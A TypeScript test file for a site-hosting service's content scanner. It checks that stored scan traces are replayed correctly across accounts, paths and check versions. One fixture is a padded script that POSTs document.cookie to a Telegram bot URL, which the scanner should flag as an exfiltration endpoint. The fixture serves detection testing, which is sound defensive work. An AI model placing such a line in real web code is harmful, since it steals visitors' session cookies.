/**
 * Stored traces of the content check (docs/content-check.md "Stored traces"; migration 024): a large
 * file's scan is kept in the database by its bytes and the check's version, and replayed for the
 * same bytes in a later check, in another account's site and (when the scan never read its path)
 * at another path. A replayed check reports exactly what a fresh one does; a bumped version scans
 * again; a trace that read its path stands only at that path; a scan cut short is never kept.
 */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import type { ContentCheckReport } from '@sitehall/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  checkSiteContent,
  checkVersion,
  type SiteFile,
  TraceCache,
  type TraceStore,
} from '../src/content-check/index.js';
import * as storedTraces from '../src/repositories/content-check-traces.js';
import { traceStoreOf } from '../src/services/content-traces.js';
import { createTestApp, type TestApp, uploadProject } from './helpers.js';

const root = path.resolve(import.meta.dirname, '../..');
const JQUERY = fs.readFileSync(path.join(root, 'node_modules/jquery/dist/jquery.min.js'), 'utf8');
const BOOTSTRAP = fs.readFileSync(
  path.join(root, 'node_modules/bootstrap/dist/js/bootstrap.bundle.min.js'),
  'utf8',
);
/** Over the stored size (16 KB), with a high finding: a Telegram drop fed with the cookies. */
const DROP = `${'var pad = "填充";\n'.repeat(1500)}fetch("https://api.telegram.org/bot123456:abcdef/sendMessage", { method: "POST", body: document.cookie });\n`;

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const siteFile = (p: string, text: string): SiteFile => {
  const bytes = Buffer.from(text);
  return {
    path: p,
    size: bytes.length,
    extension: p.slice(p.lastIndexOf('.') + 1),
    sha256: createHash('sha256').update(bytes).digest('hex'),
    read: async (max) => Buffer.from(bytes.subarray(0, max)),
  };
};
const site = (files: Record<string, string>) => Object.entries(files).map(([p, text]) => siteFile(p, text));
const comparable = ({ checked_at: _, ...report }: ContentCheckReport) => report;

/** The database's store, counting the traces each lookup found. */
function countingStore() {
  const store = traceStoreOf(t.ctx.db);
  const counted = {
    found: 0,
    get: async (keys: readonly string[]) => {
      const found = await store.get(keys);
      counted.found += found.size;
      return found;
    },
    put: (rows: ReadonlyArray<{ key: string; trace: string }>, version: string) => store.put(rows, version),
  } satisfies TraceStore & { found: number };
  return counted;
}

/** A busy machine must not cut a library's scan short (2 s per file by default). */
const PATIENT = { maxMsPerFile: 600_000, timeoutMs: 1_200_000 };
/** A check as after a restart: nothing in the process's cache, the database's store given. */
const stored = (files: SiteFile[], entry: string | null, store: TraceStore, version?: string) =>
  checkSiteContent(files, entry, {
    ...PATIENT,
    traces: new TraceCache(),
    store,
    ...(version ? { checkVersion: version } : {}),
  });
const fresh = (files: SiteFile[], entry: string | null) =>
  checkSiteContent(files, entry, { ...PATIENT, traces: null });

const rowsOf = () => t.ctx.db.selectFrom('content_check_traces').selectAll().execute();
const clear = () => t.ctx.db.deleteFrom('content_check_traces').execute();

describe('stored traces', () => {
  it('replays library files by their bytes in another account’s site at other paths, as a fresh check reports', async () => {
    await clear();
    const first = site({
      'index.html':
        '<script src="js/jquery.min.js"></script><script src="js/bootstrap.bundle.min.js"></script>',
      'js/jquery.min.js': JQUERY,
      'js/bootstrap.bundle.min.js': BOOTSTRAP,
      'js/drop.js': DROP,
    });
    const one = countingStore();
    const firstReport = await stored(first, 'index.html', one);
    expect(one.found).toBe(0);
    expect(comparable(firstReport)).toEqual(comparable(await fresh(first, 'index.html')));
    const rows = await rowsOf();
    // The three large scripts (the page is small: its scan is cheaper than a row).
    expect(rows).toHaveLength(3);
    expect(new Set(rows.map((r) => r.check_version))).toEqual(new Set([checkVersion()]));

    const second = site({
      'home.html': '<script src="vendor/jq.js"></script><script src="vendor/bs.js"></script><p>我的作品</p>',
      'vendor/jq.js': JQUERY,
      'vendor/bs.js': BOOTSTRAP,
      'lib/x.js': DROP,
      'extra.js': 'console.log("小文件")',
    });
    const two = countingStore();
    const report = await stored(second, 'home.html', two);
    expect(two.found).toBe(3);
    expect(comparable(report)).toEqual(comparable(await fresh(second, 'home.html')));
    // The drop is reported at its new path, from the replayed trace.
    expect(report.findings.some((f) => f.rule === 'js.exfil-endpoint' && f.file === 'lib/x.js')).toBe(true);
  });

  it('a bumped check version scans again instead of replaying', async () => {
    await clear();
    const files = site({ 'index.html': '<script src="drop.js"></script>', 'drop.js': DROP });
    const store = countingStore();
    const before = await stored(files, 'index.html', store, 'test-1');
    expect(before.findings.some((f) => f.rule === 'js.exfil-endpoint')).toBe(true);
    // Changed in the table by hand: with the same version the check replays what is stored...
    const [row] = await rowsOf();
    const trace = JSON.parse(row!.trace);
    await t.ctx.db
      .updateTable('content_check_traces')
      .set({ trace: JSON.stringify({ ...trace, events: [] }) })
      .execute();
    const replayed = await stored(files, 'index.html', store, 'test-1');
    expect(replayed.findings.some((f) => f.rule === 'js.exfil-endpoint')).toBe(false);
    // ...and a new version finds nothing stored: it scans, and keeps its own trace.
    const found = store.found;
    const bumped = await stored(files, 'index.html', store, 'test-2');
    expect(store.found).toBe(found);
    expect(comparable(bumped)).toEqual(comparable(await fresh(files, 'index.html')));
    expect((await rowsOf()).map((r) => r.check_version).sort()).toEqual(['test-1', 'test-2']);
    // The daily prune keeps only the version in use.
    expect(await storedTraces.prune(t.ctx.db, 'test-2', '2000-01-01')).toBe(1);
  });

  it('a trace that read its path (a missing linked file) stands only at that path', async () => {
    await clear();
    const page = `<img src="pic.png"><script src="app.js"></script>${'<p>相册说明文字</p>\n'.repeat(1500)}`;
    const store = countingStore();
    const first = site({ 'index.html': '<a href="a/page.html">a</a>', 'a/page.html': page });
    const firstReport = await stored(first, 'index.html', store);
    expect(firstReport.findings.filter((f) => f.rule === 'ref.missing-file').length).toBeGreaterThan(0);
    // The same bytes where the linked files exist: not the first site's answer.
    const second = site({
      'index.html': '<a href="b/page.html">b</a>',
      'b/page.html': page,
      'b/pic.png': 'png',
      'b/app.js': 'console.log(1)',
    });
    const report = await stored(second, 'index.html', store);
    expect(report.findings.filter((f) => f.rule === 'ref.missing-file')).toEqual([]);
    expect(comparable(report)).toEqual(comparable(await fresh(second, 'index.html')));
    // At the same path with the files present, the stored trace's answers differ: scanned again.
    const third = site({ 'index.html': 'x', 'a/page.html': page, 'a/pic.png': 'png', 'a/app.js': '1' });
    expect(comparable(await stored(third, 'index.html', store))).toEqual(
      comparable(await fresh(third, 'index.html')),
    );
  });

  it('a scan cut short by its time limit is never stored', async () => {
    await clear();
    await checkSiteContent(site({ 'big.js': JQUERY }), null, {
      traces: new TraceCache(),
      store: countingStore(),
      maxMsPerFile: 0,
    });
    expect(await rowsOf()).toEqual([]);
  });

  it('an upload stores the traces of its large files; an unchanged file in another account’s upload adds none', async () => {
    await clear();
    const a = await t.createUser();
    const b = await t.createUser();
    const up = async (token: string, name: string, files: Array<{ name: string; content: string }>) => {
      const res = await uploadProject(t, token, { name, files });
      expect(res.statusCode, res.body).toBe(201);
    };
    // A plain library (quick to scan even on a busy machine, whose uploads keep 2 s per file).
    const lib = 'function f(a) { return a + 1; }\n'.repeat(1000);
    await up(a.token, '库一', [
      { name: 'index.html', content: '<script src="lib.js"></script>' },
      { name: 'lib.js', content: lib },
    ]);
    const after = await rowsOf();
    expect(after).toHaveLength(1);
    await up(b.token, '库二', [
      { name: 'index.html', content: '<script src="vendor/lib.js"></script>' },
      { name: 'vendor/lib.js', content: lib },
    ]);
    expect((await rowsOf()).map((r) => r.key)).toEqual(after.map((r) => r.key));
  });
});
